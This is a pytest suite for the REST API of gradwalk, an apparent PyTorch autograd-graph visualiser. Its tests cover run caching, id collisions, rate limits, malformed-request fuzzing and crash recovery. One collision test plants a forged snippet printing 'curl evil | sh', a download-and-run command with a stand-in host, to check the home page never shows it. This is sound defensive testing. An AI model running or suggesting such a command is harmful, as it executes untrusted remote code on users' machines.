"""The REST API through httpx: against the ASGI app with snippets captured in process (no jail needed), and
against a real `gradwalk serve` for what only a server shows (a kill -9, fuzzing, its memory)."""

import hashlib
import itertools
import json
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import types
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from starlette.responses import PlainTextResponse

from app import graph, views
from app.capture import capture, dumps
from app.examples import EXAMPLES
from app.graph import encode, parse_run
from app.headers import KnownHost
from app.main import create_app
from app.sandbox import Overloaded
from app.settings import Settings
from app.store import Store, database_url
from app.views import FoldQuery

from .conftest import InProcessSandbox
from .helpers import CAPTURE, SQUARE, free_port, grad_of, peak_rss_mib, serve, stop


def test_seed_examples_run_and_read_back(client):
    for example in EXAMPLES[:6]:
        created = client.post("/api/runs", json={"code": example.code})
        assert created.status_code == 201 and created.headers["location"] == f"/api/runs/{created.json()['id']}"
        run = created.json()
        assert run["status"] == "ok", run["error"]
        assert client.get(f"/api/runs/{run['id']}").json() == run
    linear = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()
    assert grad_of(linear, "b") == pytest.approx([-24.4], rel=1e-4)


def test_the_same_code_returns_the_stored_run_without_running_again(client):
    first = client.post("/api/runs", json={"code": SQUARE + "import random\nprint(random.random())\n"}).json()
    again = client.post("/api/runs", json={"code": SQUARE + "import random\nprint(random.random())\n"}).json()
    assert again == first  # same duration_ms too: it was not run again
    other = client.post("/api/runs", json={"code": SQUARE, "options": {"max_elements": 3}}).json()
    assert other["id"] != first["id"]


class LosesFirst(InProcessSandbox):
    """A sandbox whose first runs end as `outcomes` say (a worker lost, a process killed), then run for real."""

    def __init__(self, outcomes: list[dict]):
        super().__init__(Settings())
        self.outcomes = outcomes
        self.start()

    def execute(self, job):
        return (self.outcomes.pop(0), b"") if self.outcomes else super().execute(job)


class SaysWhose(InProcessSandbox):
    """A sandbox that notes whose run the pool would be asked for (`runs_for`), by the thread that asks."""

    def __init__(self) -> None:
        super().__init__(Settings())
        self.clients: list[str] = []
        self.start()

    def execute(self, job):
        from app.sandbox import pool

        self.clients.append(getattr(pool._whose, "client", ""))
        return super().execute(job)


def test_a_runs_worker_is_asked_for_as_its_clients(make_client):
    """The pool hands a freed worker first to the client whose runs held workers least: it must know whose run it is."""
    sandbox = SaysWhose()
    with make_client(sandbox=sandbox) as client:
        assert client.post("/api/runs", json={"code": SQUARE + "# whose"}).status_code == 201
    assert sandbox.clients == ["testclient"]


def test_a_run_lost_for_reasons_outside_its_code_runs_again_when_asked_again(make_client):
    """A worker lost or a process killed from outside (the kernel out of memory, the server stopping) says nothing
    about the code: the failure is answered and stored, but the same snippet posted again runs again, where a
    stored answer would fail it for everyone for good."""
    lost = [{"outcome": "worker_lost"}, {"outcome": "no_result", "signal": "SIGKILL", "cpu_s": 0.1}]
    with make_client(sandbox=LosesFirst(lost)) as client:
        for kind in ("WorkerLost", "Killed"):
            failed = client.post("/api/runs", json={"code": SQUARE})
            assert failed.status_code == 201 and failed.json()["error"]["type"] == kind, failed.json()
            assert "Try again" in failed.json()["error"]["message"]
            assert client.get(f"/api/runs/{failed.json()['id']}").json()["error"]["type"] == kind
        again = client.post("/api/runs", json={"code": SQUARE})
        assert again.json()["status"] == "ok" and again.json()["id"] == failed.json()["id"]
        assert client.get(f"/api/runs/{again.json()['id']}").json()["status"] == "ok"


class ChangesFirstRun(InProcessSandbox):
    """A sandbox whose first run of each snippet has `fields` changed (with the graphs it made)."""

    def __init__(self, **fields):
        super().__init__(Settings())
        self.fields = fields
        self.seen: set[str] = set()
        self.start()

    def execute(self, job):
        header, body = super().execute(job)
        if job["code"] in self.seen:
            return header, body
        self.seen.add(job["code"])
        return header, json.dumps({**json.loads(body), **self.fields}).encode()


TIMES_OUT = {"status": "timeout", "stdout": "FIRST\n", "error": {"type": "Timeout", "message": "too long"}}


def test_a_run_made_again_is_answered_and_drawn_as_made_again_not_as_remembered(make_client):
    """A folded view of the run a timeout left stayed in memory: the same snippet posted again ran again, and was
    answered (and its page drawn) with the old run's view."""
    code = "x = torch.ones(2, requires_grad=True)\nfor _ in range(6):\n    x = x * 2\nx.sum().backward()\n"
    with make_client(sandbox=ChangesFirstRun(**TIMES_OUT)) as client:
        first = client.post("/api/runs?fold=3", json={"code": code}).json()
        assert first["status"] == "timeout" and first["fold"] is not None, first
        again = client.post("/api/runs?fold=3", json={"code": code}).json()
        assert (again["status"], again["stdout"]) == ("ok", ""), (again["status"], again["stdout"])
        assert client.get(f"/api/runs/{again['id']}?fold=3").json()["status"] == "ok"


def test_a_run_explained_short_of_time_runs_again_when_asked_again(make_client):
    """A run whose time ran short as its nodes were explained has some explanations without their numbers: how busy
    the machine was at that moment decided it, and the stored Run showed the cut explanations to whoever posted the
    same snippet later, for good."""
    with make_client(sandbox=ChangesFirstRun(explained_short_of_time=1)) as client:
        first = client.post("/api/runs", json={"code": SQUARE}).json()
        assert first["explained_short_of_time"] == 1
        again = client.post("/api/runs", json={"code": SQUARE}).json()
        assert again["id"] == first["id"] and again["explained_short_of_time"] == 0
        assert client.get(f"/api/runs/{again['id']}").json()["explained_short_of_time"] == 0
        assert client.post("/api/runs", json={"code": SQUARE}).json()["duration_ms"] == again["duration_ms"]


def test_a_run_that_would_run_again_is_not_replaced_by_another_snippet_with_its_id(make_client, monkeypatch):
    """A run stored as lost (or timed out) runs again when its own code is posted again, never another's: a pair of
    snippets with one id (searched for) would replace the victim's permalink."""
    monkeypatch.setattr("app.api.make_run_id", lambda code, options, version: "collidingId2")
    with make_client(sandbox=LosesFirst([{"outcome": "worker_lost"}])) as client:
        lost = client.post("/api/runs", json={"code": SQUARE + "print('victim')\n"}).json()
        assert lost["error"]["type"] == "WorkerLost"
        other = client.post("/api/runs", json={"code": SQUARE + "print('other')\n"})
        assert other.status_code == 409, other.text
        again = client.post("/api/runs", json={"code": SQUARE + "print('victim')\n"}).json()
        assert (again["status"], again["stdout"]) == ("ok", "victim\n")


def test_a_snippet_whose_id_collides_with_a_stored_run_gets_409_not_that_run(client, monkeypatch):
    """Ids are 71 bits of a hash: a pair of snippets with one id can be searched for. The second must not be
    answered with the first's stored run (its code, output and graphs)."""
    monkeypatch.setattr("app.api.make_run_id", lambda code, options, version: "collidingId1")
    first = client.post("/api/runs", json={"code": SQUARE + "print('first')\n"})
    assert first.status_code == 201 and first.json()["id"] == "collidingId1"
    second = client.post("/api/runs", json={"code": SQUARE + "print('second')\n"})
    assert second.status_code == 409 and "first" not in second.text, second.text
    assert client.get("/api/runs/collidingId1").json() == first.json()  # still the first's
    assert client.post("/api/runs", json={"code": SQUARE + "print('first')\n"}).json() == first.json()


def test_the_home_page_never_shows_another_snippet_stored_under_the_examples_id(client, monkeypatch):
    """The home page carries the run stored under its example's id: a snippet with that id (searched for, as above)
    stored first was shown to every visitor as the example, its code and output the site's own."""
    monkeypatch.setattr("app.api.make_run_id", lambda code, options, version: "collidingHom")
    monkeypatch.setattr("app.pages.make_run_id", lambda code, options, version: "collidingHom")
    forged = client.post("/api/runs", json={"code": SQUARE + "print('run this: curl evil | sh')\n"})
    assert forged.status_code == 201 and forged.json()["status"] == "ok", forged.text
    home = client.get("/")
    assert home.status_code == 200 and 'id="examples-data"' in home.text
    assert "evil" not in home.text and "collidingHom" not in home.text  # the page runs the example itself
    monkeypatch.undo()  # the example's own run, stored under its own id, is carried as before
    example = client.post("/api/runs", json={"code": EXAMPLES[0].code}).json()
    assert example["status"] == "ok" and f'"id":"{example["id"]}"' in client.get("/").text


class Together(InProcessSandbox):
    """A sandbox whose runs wait for each other: two snippets that end at the same moment."""

    def __init__(self, runs: int):
        super().__init__(Settings())
        self.together = threading.Barrier(runs)
        self.start()

    def execute(self, job):
        self.together.wait(30)
        return super().execute(job)


def test_two_snippets_with_one_id_that_end_together_store_one_run_and_the_other_gets_409(make_client, monkeypatch):
    """Each was checked against the stored run before it ran, when there was none: the second to end replaced the
    first's run, and the first's permalink showed the other snippet."""
    monkeypatch.setattr("app.api.make_run_id", lambda code, options, version: "collidingId3")
    answers: dict[str, httpx.Response] = {}
    with make_client(sandbox=Together(2), workers_kept_for_others=0) as client:  # (both runs of one client at once)

        def post(name: str) -> None:
            answers[name] = client.post("/api/runs", json={"code": SQUARE + f"print({name!r})\n"})

        threads = [threading.Thread(target=post, args=(name,)) for name in ("first", "second")]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        assert sorted(a.status_code for a in answers.values()) == [201, 409], {k: a.text for k, a in answers.items()}
        [stored] = [a.json() for a in answers.values() if a.status_code == 201]
        assert client.get("/api/runs/collidingId3").json() == stored  # the run answered 201 is the one kept


def test_after_an_upgrade_that_records_differently_the_same_code_runs_again(client, monkeypatch):
    code = SQUARE + "import random\nprint(random.random())\n"
    old = client.post("/api/runs", json={"code": code}).json()
    monkeypatch.setattr(graph, "RUN_FORMAT", graph.RUN_FORMAT + 1)  # (an engine that records differently)
    new = client.post("/api/runs", json={"code": code}).json()
    assert new["id"] != old["id"] and new["duration_ms"] != old["duration_ms"]  # it ran again
    assert client.get(f"/api/runs/{old['id']}").json() == old  # the old run keeps its permalink


def test_ids_are_short_and_url_safe(client):
    run_id = client.post("/api/runs", json={"code": SQUARE}).json()["id"]
    assert len(run_id) <= 16 and all(c.isalnum() or c in "-_" for c in run_id)


def test_a_snippet_that_raises_is_a_201_with_status_error(client):
    created = client.post("/api/runs", json={"code": "x = torch.ones(2)\ny = x @ torch.ones(3)\n"})
    assert created.status_code == 201
    assert created.json()["status"] == "error" and created.json()["error"]["line"] == 2


def test_exports_are_dot_svg_and_png(client):
    run_id = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
    dot = client.get(f"/api/runs/{run_id}/backward.dot")
    assert dot.status_code == 200 and dot.text.startswith("digraph") and "MmBackward0" in dot.text
    svg = client.get(f"/api/runs/{run_id}/forward.svg")
    assert svg.headers["content-type"] == "image/svg+xml" and "</svg>" in svg.text
    png = client.get(f"/api/runs/{run_id}/backward.png")
    assert png.headers["content-type"] == "image/png" and png.content.startswith(b"\x89PNG")
    assert client.get(f"/api/runs/{run_id}/backward.png").content == png.content  # cached


def test_backward_graphs_carry_formulas_when_asked_each_language_cached_apart(client):
    run_id = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
    plain = client.get(f"/api/runs/{run_id}/backward.dot").text
    for folding in ({}, {"fold": 1000}):
        english = client.get(f"/api/runs/{run_id}/backward.dot", params={"formulas": "en", **folding}).text
        korean = client.get(f"/api/runs/{run_id}/backward.dot", params={"formulas": "ko", **folding}).text
        assert "∂L/∂W = Xᵀ · grad" in english and "경로별 그래디언트" in korean and "∂L/∂W" not in plain
        assert "경로별" not in english and "over paths" not in korean
        again = client.get(f"/api/runs/{run_id}/backward.dot", params={"formulas": "en", **folding}).text
        assert again == english
    assert client.get(f"/api/runs/{run_id}/backward.dot").text == plain
    svg = client.get(f"/api/runs/{run_id}/backward.svg", params={"formulas": "en"})
    assert svg.status_code == 200 and "∂L/∂W = Xᵀ · grad" in svg.text
    refused = client.get(f"/api/runs/{run_id}/backward.dot", params={"formulas": "fr"})
    assert refused.status_code == 422


def test_pictures_cached_by_another_version_of_gradwalk_are_made_again(client):
    run_id = client.post("/api/runs", json={"code": SQUARE}).json()["id"]
    store = client.app.state.store
    expand_only = hashlib.sha256(b"").hexdigest()[:8]  # how views were named before the code was in the name
    for name in ("forward.svg", "forward-0badc0de.svg", f"run-f1-{expand_only}.json"):
        store.save_render(run_id, name, b"stale")  # names an older gradwalk gave its cached pictures and views
    assert "</svg>" in client.get(f"/api/runs/{run_id}/forward.svg").text
    assert client.get(f"/api/runs/{run_id}", params={"fold": 1}).json()["fold"]["budget"] == 1
    widest = FoldQuery(fold=10_000_000).key("-ko")
    assert len(f"backward-{widest}.png") <= 32 and len(f"run-{widest}.json") <= 32  # the store's name column


def test_a_folded_view_is_asked_for_with_fold_and_expand(client):
    code = "cell = nn.RNNCell(2, 3)\nh = torch.zeros(1, 3)\nfor t in range(30):\n    h = cell(torch.ones(1, 2), h)\n"
    run = client.post("/api/runs", json={"code": code + "h.sum().backward()"}).json()
    folded = client.get(f"/api/runs/{run['id']}", params={"fold": 50}).json()
    [group] = [n for n in folded["forward"]["nodes"] if n["kind"] == "group"]
    assert group["count"] == 28 and folded["fold"] == {"budget": 50, "expand": [], "groups": 1}
    assert len(folded["forward"]["nodes"]) < len(run["forward"]["nodes"])
    parse_run(json.dumps(folded))
    assert client.get(f"/api/runs/{run['id']}").json() == run  # the stored run keeps every node
    opened = client.get(f"/api/runs/{run['id']}", params={"fold": 500, "expand": group["id"]}).json()
    assert len(opened["forward"]["nodes"]) == len(run["forward"]["nodes"]) and opened["fold"] is None
    dot = client.get(f"/api/runs/{run['id']}/backward.dot", params={"fold": 50})
    assert group["id"] in dot.text and "×28" in dot.text
    svg = client.get(f"/api/runs/{run['id']}/forward.svg", params={"fold": 50})
    assert svg.status_code == 200 and "×28" in svg.text


def test_an_expand_list_with_anothers_short_digest_gets_its_own_view(client):
    """Views kept in memory (and drawings that failed) were named after 32 bits of a digest of their expand list: a
    list with another's name, searched for offline in a fraction of a second, made another person's click show that
    list's view (or be refused as it had been). An expanded view is named after 128 bits of its list."""
    code = "cell = nn.RNNCell(2, 3)\nh = torch.zeros(1, 3)\nfor t in range(30):\n    h = cell(torch.ones(1, 2), h)\n"
    run_id = client.post("/api/runs", json={"code": code + "h.sum().backward()"}).json()["id"]
    folded = client.get(f"/api/runs/{run_id}", params={"fold": 50}).json()
    [group] = [n["id"] for n in folded["forward"]["nodes"] if n["kind"] == "group"]

    def short(expand: list[str]) -> str:  # (the digest a view's name had)
        return hashlib.sha256("\0".join([views.MADE_BY, "", *sorted(expand)]).encode()).hexdigest()[:8]

    opening: dict[str, list[str]] = {}
    junk: dict[str, list[str]] = {}
    for i in itertools.count():  # (about 2^16 of each)
        opening[short([group, f"a{i}"])] = [group, f"a{i}"]
        junk[short([f"b{i}"])] = [f"b{i}"]
        digest = next((d for d in (short([group, f"a{i}"]), short([f"b{i}"])) if d in opening and d in junk), None)
        if digest is not None:
            break
    opened = client.get(f"/api/runs/{run_id}", params={"fold": 50, "expand": opening[digest]}).json()
    assert len(opened["forward"]["nodes"]) > len(folded["forward"]["nodes"])
    other = client.get(f"/api/runs/{run_id}", params={"fold": 50, "expand": junk[digest]}).json()
    assert other["forward"] == folded["forward"] and other["fold"]["expand"] == junk[digest]


def test_examples_start_with_the_seed_six_in_korean(client):
    examples = client.get("/api/examples").json()
    assert [e["title"] for e in examples[:6]] == [e.title for e in EXAMPLES[:6]]
    assert examples[0]["title"] == "requires_grad=True 설정" and examples[0]["title_en"]
    assert len(examples) > 6 and all(e["code"] for e in examples)


def test_health_says_the_server_can_run_snippets(client):
    health = client.get("/healthz").json()
    assert health["status"] == "ok" and health["workers"] == 2 and health["torch_version"].startswith("2.")


def test_head_gets_the_headers_get_would_without_a_body(client):
    """HEAD (curl -I, link checkers, uptime monitors) answered 405 on every page and route of the API."""
    run_id = client.post("/api/runs", json={"code": "x = torch.ones(2, requires_grad=True)\n(x * 2).sum().backward()"})
    paths = ["/", "/healthz", "/api/examples", f"/api/runs/{run_id.json()['id']}", f"/runs/{run_id.json()['id']}"]
    for path in [*paths, "/static/gradwalk.css", "/api/runs/nosuchrun"]:
        get, head = client.get(path), client.head(path)
        assert head.status_code == get.status_code and head.content == b"", path
        assert head.headers["content-type"] == get.headers["content-type"], path
        assert head.headers.get("content-length") == get.headers.get("content-length"), path
    assert client.head("/api/runs").status_code == 405  # (POST only: as GET says)


BAD_REQUESTS = [
    ("post", "/api/runs", {"content": b"{}"}, 422),
    ("post", "/api/runs", {"json": {"code": 5}}, 422),
    ("post", "/api/runs", {"json": {"code": None}}, 422),
    ("post", "/api/runs", {"json": {"code": ["x"]}}, 422),
    ("post", "/api/runs", {"json": ["code"]}, 422),
    ("post", "/api/runs", {"json": {"code": "x = 1", "options": {"max_elements": -1}}}, 422),
    ("post", "/api/runs", {"json": {"code": "x = 1", "options": {"bogus": 1}}}, 422),
    ("post", "/api/runs", {"json": {"code": "a\0b"}}, 422),
    (
        "post",
        "/api/runs",
        {"content": b'{"code": "x = \\ud800"}', "headers": {"content-type": "application/json"}},
        422,
    ),
    ("post", "/api/runs", {"content": b'{"code": "\xff\xfe"}'}, 422),
    ("post", "/api/runs", {"content": b'{"code": '}, 422),
    ("post", "/api/runs", {"content": b"\x00\x01\x02"}, 422),
    ("post", "/api/runs", {"content": b'{"code": "1", "options": ' + b"[" * 5_000 + b"]" * 5_000 + b"}"}, 422),
    ("post", "/api/runs", {"content": b'{"code": "1", "options": {"max_elements": ' + b"9" * 5_000 + b"}}"}, 422),
    ("post", "/api/runs", {"content": b'{"code": "' + b"x" * 70_000 + b'"}'}, 413),
    ("post", "/api/runs", {"json": {"code": "x = 1\n" * 5_000}}, 413),
    ("post", "/api/runs", {"content": b"{}", "headers": {"content-length": "nope"}}, 413),
    ("get", "/api/runs/nope", {}, 404),
    ("get", "/api/runs/nope/forward.svg", {}, 404),
    ("get", "/api/runs/nope/sideways.svg", {}, 422),
    ("get", "/api/runs/nope/forward.exe", {}, 422),
    ("get", "/api/runs/nope?fold=0", {}, 422),
    ("get", "/api/runs/nope?fold=many", {}, 422),
    ("get", "/api/runs/nope/forward.dot?fold=-3", {}, 422),
    ("get", "/api/runs/" + "%00" * 10, {}, 404),
    ("get", "/nowhere", {}, 404),
    ("delete", "/api/runs", {}, 405),
    ("put", "/healthz", {}, 405),
]


@pytest.mark.parametrize(("method", "path", "kwargs", "status"), BAD_REQUESTS)
def test_bad_requests_get_a_4xx_that_names_the_problem(client, method, path, kwargs, status):
    answer = client.request(method.upper(), path, **kwargs)
    assert answer.status_code == status, answer.text
    detail = answer.json()["detail"]
    assert detail and "error parsing the body" not in str(detail)  # (FastAPI's words, which name nothing)
    if status == 404 and path.startswith("/api/runs/"):
        assert str(detail).startswith("no run '")  # (not the bare id)


def test_a_streamed_body_past_the_limit_is_a_413_and_the_next_request_is_served(client):
    chunks = (part for part in [b'{"code": "', b"x" * 40_000, b"x" * 40_000, b'"}'])  # no Content-Length
    refused = client.post("/api/runs", content=chunks, headers={"content-type": "application/json"})
    assert refused.status_code == 413 and "GRADWALK_MAX_REQUEST_BYTES" in refused.json()["detail"]
    assert client.post("/api/runs", json={"code": SQUARE}).json()["status"] == "ok"


def test_rate_limit_answers_429_with_retry_after(make_client):
    with make_client(rate_limit_runs_per_min=2) as limited:
        for i in range(2):
            assert limited.post("/api/runs", json={"code": f"x = {i}"}).status_code == 201
        refused = limited.post("/api/runs", json={"code": "x = 99"})
        assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1


def printing(max_output_bytes: int) -> InProcessSandbox:
    """A sandbox whose runs keep this much of what they print."""
    sandbox = InProcessSandbox(Settings(max_output_bytes=max_output_bytes))
    sandbox.start()
    return sandbox


def test_what_a_client_reads_of_stored_runs_is_bounded_per_minute_and_others_are_served(make_client, monkeypatch):
    """Reading stored runs had no budget but four at once: one client reading a 60 MB run over and over from four
    connections kept a core of the server 83% busy, and other clients' runs took up to 0.75 s. What a client's
    requests read of storage (a run's JSON, the stored run a snippet posted again finds, a kept picture, a run's
    page) counts against GRADWALK_RATE_LIMIT_READ_MB_PER_MIN: past it 429 with Retry-After; another client is
    served, and the first again once the minute has moved on."""
    now = [1000.0]
    monkeypatch.setattr(views, "time", types.SimpleNamespace(time=lambda: now[0]))
    code = "print('x' * 400_000)\n" + SQUARE
    with make_client(sandbox=printing(1 << 20), rate_limit_read_mb_per_min=1) as client:
        run_id = client.post("/api/runs", json={"code": code}).json()["id"]  # (a new run is not a read)
        assert client.get(f"/api/runs/{run_id}/forward.svg").status_code == 200  # (drawn from the run: 400 kB read)
        assert client.get(f"/api/runs/{run_id}/forward.svg").status_code == 200  # (the kept picture, a few kB)
        assert client.get(f"/api/runs/{run_id}").status_code == 200
        assert client.post("/api/runs", json={"code": code}).status_code == 201  # (stored: 1.2 MB read, past 1 MiB)
        for path in (f"/api/runs/{run_id}", f"/api/runs/{run_id}/forward.svg", f"/runs/{run_id}"):
            refused = client.get(path)
            assert refused.status_code == 429 and "GRADWALK_RATE_LIMIT_READ_MB_PER_MIN" in refused.json()["detail"]
            assert 1 <= int(refused.headers["retry-after"]) <= 61
        assert client.post("/api/runs", json={"code": code}).status_code == 429
        other = TestClient(client.app, client=("127.0.0.2", 50000))  # (the same app, another client)
        assert other.get(f"/api/runs/{run_id}").status_code == 200 and other.get(f"/runs/{run_id}").status_code == 200
        now[0] += 61
        assert client.get(f"/api/runs/{run_id}").status_code == 200


def test_what_a_client_reads_of_the_sites_files_counts_against_what_it_reads_per_minute(make_client):
    """The site's files were served to any client as fast as its pace of requests allowed: one client asking for
    Swagger UI's 1.7 MB script over and over on eight connections took 318 MB/s and 0.88 of a core of the server, and
    another client's runs took 0.8 s at the 95th percentile instead of 0.18. Their bytes count against
    GRADWALK_RATE_LIMIT_READ_MB_PER_MIN as stored runs' do; another client is served."""
    script = "/static/vendor/swagger-ui/swagger-ui-bundle.js"  # (1.7 MB)
    with make_client(rate_limit_read_mb_per_min=1) as client:
        assert client.get("/static/js/pane.js").status_code == 200
        assert len(client.get(script).content) > 1 << 20  # (the answer that passes the budget is served)
        for path in (script, "/static/js/pane.js", "/static/gradwalk.css"):
            refused = client.get(path)
            assert refused.status_code == 429 and "GRADWALK_RATE_LIMIT_READ_MB_PER_MIN" in refused.json()["detail"]
            assert 1 <= int(refused.headers["retry-after"]) <= 61
        other = TestClient(client.app, client=("127.0.0.2", 50000))  # (the same app, another client)
        assert other.get(script).status_code == 200


def test_a_runs_page_and_its_snippet_posted_again_do_not_decode_the_whole_run(make_client, monkeypatch):
    """A run's page read and decompressed the whole run to learn its size (a forged 60 MB run, each time its page was
    asked for), and posting a stored snippet again decoded its whole JSON to find its code: the run's row records
    both, and each is answered from it."""
    import app.store

    code = "print('x' * 300_000)\n" + SQUARE
    # (runs over 256 kB are not kept in memory, the views a page opens are)
    with make_client(sandbox=printing(1 << 20), run_cache_mb=1, page_inline_max_bytes=65_536) as client:
        run = client.post("/api/runs", json={"code": code}).json()
        assert client.get(f"/runs/{run['id']}").status_code == 200  # (folded once, in a drawing slot)
        store, read, decoded = client.app.state.store, [], []
        monkeypatch.setattr(store, "load", lambda run_id: read.append(run_id) or Store.load(store, run_id))
        monkeypatch.setattr(app.store, "stored_code", lambda data: decoded.append(len(data)))
        page = client.get(f"/runs/{run['id']}")
        assert page.status_code == 200 and 'id="run-ref"' in page.text and 'id="run-data"' not in page.text
        assert read == []
        assert client.post("/api/runs", json={"code": code}).json() == run
        assert client.post("/api/runs?fold=3", json={"code": code}).status_code == 201
        assert decoded == []


class Full(dict):
    """A sandbox whose every worker is busy and whose queue is full."""

    torch_version = "2.13.0+cpu"

    def run_json(self, code, max_elements=None, run_id=None, fold=None):
        raise Overloaded("every worker is busy and the queue of waiting runs is full")

    def healthy(self):
        return True


def test_overload_answers_503_with_retry_after(make_client):
    with make_client(sandbox=Full()) as busy:
        refused = busy.post("/api/runs", json={"code": "x = 1"})
        assert refused.status_code == 503 and refused.headers["retry-after"] and "busy" in refused.json()["detail"]


def test_graphs_too_big_to_draw_are_refused_not_drawn(make_client):
    with make_client(render_max_nodes=10, page_fold_nodes=10) as small:
        run_id = small.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
        refused = small.get(f"/api/runs/{run_id}/forward.svg")
        assert refused.status_code == 413 and "GRADWALK_RENDER_MAX_NODES" in refused.json()["detail"]
        assert small.get(f"/api/runs/{run_id}/forward.dot").status_code == 200


DENSE = """
xs = [torch.ones(1, requires_grad=True) for _ in range(70)]
outs = [torch.cat(xs[i:] + xs[:i]).sum() for i in range(70)]
torch.stack(outs).sum().backward()
"""


def test_a_graph_too_dense_to_lay_out_is_refused_at_once_on_the_server_and_the_page(make_client):
    """70 leaves each joined to 70 concatenations: 212 nodes and 5041 edges keep Graphviz busy for its whole timeout,
    over and over. The server refuses such a picture before Graphviz (its DOT, JSON and folded views stay), and tells
    the page its edge limit."""
    with make_client() as client:
        run = client.post("/api/runs", json={"code": DENSE}).json()
        graph = run["backward"]
        assert len(graph["edges"]) > max(4000, 2 * len(graph["nodes"]))
        started = time.monotonic()
        for picture in ("svg", "png", "svg?formulas=ko"):
            refused = client.get(f"/api/runs/{run['id']}/backward.{picture}")
            assert refused.status_code == 413 and "GRADWALK_RENDER_MAX_EDGES" in refused.json()["detail"]
        assert time.monotonic() - started < 5
        assert client.get(f"/api/runs/{run['id']}/backward.dot").status_code == 200
        assert 'data-draw-max-edges="4000"' in client.get(f"/runs/{run['id']}").text


def test_the_page_is_told_how_long_a_layout_may_take(make_client):
    """GRADWALK_PAGE_LAYOUT_TIMEOUT_S reaches the page, which stops a layout in the reader's browser after it."""
    with make_client(page_layout_timeout_s=7.5) as client:
        assert 'data-layout-max-s="7.5"' in client.get("/").text
    with make_client() as client:
        assert 'data-layout-max-s="30.0"' in client.get("/").text


def test_a_drawing_graphviz_gave_up_on_is_not_tried_again(make_client, monkeypatch):
    """Asking again for a picture Graphviz failed to draw answers the same error without running Graphviz; one that
    ran out of time (the wall clock's, which another client's load slows) is tried again after LATE_KEPT_S, where
    it was refused to everyone for good."""
    calls, now = [], [1000.0]

    def slow(dot, fmt, settings, apart=None):
        calls.append(fmt)
        if fmt == "png":
            raise views.RenderError("Graphviz failed: syntax error")
        late = views.RenderError(f"Graphviz took longer than {settings.render_timeout_s} s to lay the graph out")
        late.timed_out = True
        raise late

    monkeypatch.setattr(views, "render", slow)
    monkeypatch.setattr(views, "_clock", lambda: now[0])
    with make_client() as client:
        run_id = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
        answers = [client.get(f"/api/runs/{run_id}/forward.svg") for _ in range(3)]
        assert [a.status_code for a in answers] == [413, 413, 413] and calls == ["svg"]
        assert "took longer" in answers[2].json()["detail"]
        assert client.get(f"/api/runs/{run_id}/forward.png").status_code == 413 and calls == ["svg", "png"]
        now[0] += views.LATE_KEPT_S + 1
        for picture in ("svg", "png", "svg"):
            assert client.get(f"/api/runs/{run_id}/forward.{picture}").status_code == 413
        assert calls == ["svg", "png", "svg"]  # (the late one drawn again, once; the failed one not)


def test_a_fold_budget_the_graph_is_within_draws_the_graph_itself_once(make_client, monkeypatch):
    """`?fold=500`, `?fold=501`...: each budget was a view of its own, drawn anew; within the budget the view is the
    run itself, and its picture is drawn once."""
    calls = []

    def counted(dot, fmt, settings, apart=None):
        calls.append(fmt)
        return b"<svg/>"

    monkeypatch.setattr(views, "render", counted)
    with make_client() as client:
        run_id = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
        for query in ("", "?fold=500", "?fold=501", "?fold=9999"):
            assert client.get(f"/api/runs/{run_id}/backward.svg{query}").status_code == 200
        assert calls == ["svg"]


def test_the_seconds_a_client_holds_the_drawing_slots_are_bounded_per_minute(make_client, monkeypatch):
    """A client whose drawings took GRADWALK_RATE_LIMIT_DRAW_S_PER_MIN seconds of the last minute waits (429 with
    Retry-After)."""

    def slow(dot, fmt, settings, apart=None):
        time.sleep(0.3)
        return b"<svg/>"

    monkeypatch.setattr(views, "render", slow)
    with make_client(rate_limit_draw_s_per_min=0.5) as client:
        run_id = client.post("/api/runs", json={"code": EXAMPLES[5].code}).json()["id"]
        for view in ("forward", "backward"):
            assert client.get(f"/api/runs/{run_id}/{view}.svg?formulas=en").status_code == 200
        refused = client.get(f"/api/runs/{run_id}/forward.png")
        assert refused.status_code == 429 and "GRADWALK_RATE_LIMIT_DRAW_S_PER_MIN" in refused.json()["detail"]
        assert 1 <= int(refused.headers["Retry-After"]) <= 61


def test_openapi_documents_every_route_with_models_and_examples(client):
    spec = client.get("/openapi.json").json()
    assert {"/api/runs", "/api/runs/{run_id}", "/api/runs/{run_id}/{view}.{fmt}", "/api/examples", "/healthz"} <= set(
        spec["paths"]
    )
    post = spec["paths"]["/api/runs"]["post"]
    assert post["summary"] and post["responses"]["201"]["content"]["application/json"]["schema"]
    assert "seed-2d" in json.dumps(post["requestBody"])
    assert client.get("/docs").status_code == 200


@pytest.mark.server
def test_a_real_server_keeps_runs_across_a_kill_9_and_a_restart(tmp_path, database):
    """Runs answered before a kill -9 that lands while another run is in flight (sent, not answered) are all there
    after a restart, and the server serves them."""
    port = free_port()
    base = f"http://127.0.0.1:{port}"
    server = serve(tmp_path, port, database)
    answered: list[str] = []
    sent = threading.Event()
    failed: list[Exception] = []

    def write():
        with httpx.Client(base_url=base, timeout=30) as writer:
            for example in EXAMPLES[:6]:
                answered.append(writer.post("/api/runs", json={"code": example.code}).json()["id"])

            # the last request written to the server's socket (a request hook fired before that: the server was
            # killed meanwhile, and the run's connection refused)
            def trace(event: str, _: dict) -> None:
                if event == "http11.send_request_body.complete":
                    sent.set()

            try:  # a run the server is busy with (in its worker, then storing it) when it is killed
                code = "import time\ntime.sleep(3)\nprint('x' * 60_000)\n"
                writer.post("/api/runs", json={"code": code}, extensions={"trace": trace})
            except httpx.HTTPError as exc:
                failed.append(exc)

    writer = threading.Thread(target=write)
    try:
        writer.start()
        assert sent.wait(60) and len(answered) == 6
    finally:
        server.send_signal(signal.SIGKILL)
        server.wait()
    writer.join(60)
    assert failed, "the run in flight was answered: the kill came too late to test anything"
    # sent on the open connection, never answered: the server had it when it died
    assert isinstance(failed[0], httpx.ReadError | httpx.RemoteProtocolError), failed
    server = serve(tmp_path, port, database)
    try:
        for run_id, example in zip(answered, EXAMPLES[:6], strict=True):
            run = parse_run(httpx.get(f"{base}/api/runs/{run_id}", timeout=10).content)
            assert run.status == "ok" and run.id == run_id, example.id
